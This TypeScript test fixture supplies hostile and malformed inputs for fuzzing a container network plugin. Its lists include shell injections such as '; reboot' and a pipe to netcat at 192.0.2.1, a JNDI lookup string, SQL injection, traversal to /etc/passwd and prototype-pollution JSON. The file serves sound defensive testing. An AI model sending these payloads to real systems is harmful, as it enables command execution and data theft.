// Values that no lawful request has: as JSON texts, since several of them are nothing that JSON.stringify could write.
import { NETWORK_OPTIONS } from "../../src/cnm/options.ts";
import { idOf } from "./requests.ts";

const NAMES = [
  "--help", "-6", "a;b", "$(id)", "`id`", 'a"b', "a*b", "a@b", "dev", "é", "tx%d", "all", "default", "lo", "docker0", "br-0123456789ab",
  "eth1", "br0", "tsn-0123456789a", "a".repeat(15), "a".repeat(16), "..", ".", "a/b", "1a", "A.b_c-d", "a b", "a\tb", "eth0\n", "",
]; // prettier-ignore
const INJECTIONS = [
  'x\\"; add table inet evil; #', 'x"; add table inet evil; #', "x } ; flush ruleset ; {", "; reboot", "| nc 192.0.2.1 1", "&& id", "\n\n",
  '["insert",{"table":"Bridge"}]', "external_ids:tsnet=1", "actions=normal", "%s%n%x", "{{.ID}}", "${jndi:ldap://x}", "<script>", "' OR 1=1 --",
]; // prettier-ignore
const PATHS = [
  "../../etc/passwd",
  "/etc/passwd",
  "/proc/1/ns/net",
  "/dev/zero",
  "file:///etc/passwd",
  "a/../../b",
  "\u0000/etc",
  "/".repeat(4096),
];
const UNICODE = [
  "\u0000", "nul\u0000nul", "\u001b[31m", "line\nbreak", "cr\rlf\n", "\u202eturned", "\u2066x\u2069", "\u2028", "\ufeffbom", "\u200bzero", "ünï✓",
  "😀".repeat(20), "e\u0301", "ｅｔｈ０", "\ud800", "\udfff\ud800", "İ", "ß",
]; // prettier-ignore
const NUMBERS = [
  "5", "0x10", " 10 ", "10abc", "1e3", "-1", "+1", "01", "1.0", "4095", "65536", "4294967296", "99999999999", "true", "TRUE", "null", "NaN", "Infinity",
]; // prettier-ignore
const ADDRESSES = [
  "10.0.0.0", "10.0.0.0/8", "10.50.1.9/24", "010.0.0.1", "1.2.3", "1.2.3.4.5", "1.2.3.256/24", "10.50.1.0/33", "10.50.1.0/024", "0.0.0.0/0", "::/0", "::",
  "fe80::1%eth0", "::ffff:10.0.0.1", "FD00::1/64", "fd00:::1", "1::2::3", ":::", "255.255.255.255", "127.0.0.1", "224.0.0.1", "10.9.1.0/24", "::1/129",
  "10.9.1.2", "10.9.1.1", "10.9.1.255", "10.9.4.9", "10.9.4.0", "10.9.4.255", "fd09:4::", "fd09:4::1", "10.9.4.50", "0.0.0.0/0 via 10.9.1.9",
  "10.0.0.0/8 via 10.50.1.9", "192.0.2.1,192.0.2.2", "192.0.2.1,fd00::1", ",,,", "1-4094", "30-20", "1-4094,".repeat(500), "10,20,30-39", "0-4095",
]; // prettier-ignore
const MACS = [
  "02:42:0a:01:02:03",
  "00:00:00:00:00:00",
  "01:00:5e:00:00:01",
  "ff:ff:ff:ff:ff:ff",
  "02-42-0a-01-02-03",
  "02420a010203",
  "02:42:0a:01:02:0g",
];
const IDS = [
  idOf("stranger"),
  idOf("stranger").toUpperCase(),
  `${idOf("stranger")}\n`,
  idOf("x").slice(1),
  "id5t4xy9dres22c5jqu0a4vu4",
  "pool-1",
  "#",
];
const LENGTHS = [255, 256, 257, 4096, 4097, 65_536].map((length) => "x".repeat(length));
const WORDS = [
  "nat",
  "routed",
  "l2",
  "isolated",
  "ovs",
  "bridge",
  "vxlan",
  "gre",
  "geneve",
  "move",
  "none",
  "container",
  "netns",
  "pid",
  "false",
  "tsnet",
  "tsnet-global",
  "LocalDefault",
];

/** Texts that are hostile somewhere, or lawful in another place. */
export const TEXTS: readonly string[] = [
  ...NAMES, ...INJECTIONS, ...PATHS, ...UNICODE, ...NUMBERS, ...ADDRESSES, ...MACS, ...IDS, ...LENGTHS, ...WORDS,
]; // prettier-ignore

const nested = (depth: number, open: string, close: string) => `${open.repeat(depth)}0${close.repeat(depth)}`;

/** JSON values of every kind, and some texts that are none. */
export const TOKENS: readonly string[] = [
  "null", "true", "false", "0", "-0", "-1", "1", "1.5", "1e400", "-1e400", "1e-400", "9007199254740993", "65536", "256", "4294967296", "1E2", "0.0",
  "[]", "[null]", '[["a"]]', "[[],[]]", "{}", '{"a":1}', '{"a":"b"}', '{"a":null}', '{"":""}', '{"__proto__":{"polluted":1}}',
  '{"\\u005f_proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"toString":"x","valueOf":"y","hasOwnProperty":"z"}',
  '{"length":1}', '{"then":"x"}', '{"toJSON":"x"}', '{"$ref":"#"}', '"\\ud800"', '"\\u0000"', '{"a\\nb":"c"}', '{"a":"b","a":"c"}',
  "NaN", "Infinity", "undefined", "0x10", "+1", "01", "1.", ".5", "'a'", '"a', "[1,]", "{,}", "/**/1", "\\u0031", '"\t"', '"a\nb"',
  nested(31, "[", "]"), nested(40, "[", "]"), nested(2000, '{"a":', "}"), nested(40, '[{"a":', "}]"), "[".repeat(3000),
  `[${"0,".repeat(300)}0]`, `{${Array.from({ length: 300 }, (_, i) => `"k${i}":"v"`).join()}}`,
]; // prettier-ignore

/** Names of fields and options. */
export const KEYS: readonly string[] = [
  ...Object.keys(NETWORK_OPTIONS), "ip", "ip6", "com.docker.network.bridge.name", "com.docker.network.driver.mtu", "com.docker.network.enable_ipv4",
  "com.docker.network.internal", "com.docker.network.generic", "com.docker.network.portmap", "com.docker.network.endpoint.exposedports",
  "com.docker.network.unknown", "segment", "RequestAddressType", "networkid", "NetworkID", "EndpointID", "Err", "Error", "constructor", "prototype",
  "toString", "hasOwnProperty", "then", "", " ", "brigde", "VLAN", "a\nb", "\u0000", "\ud800", "k".repeat(256), "k".repeat(257), "a/b~c", "é", "__proto__",
]; // prettier-ignore
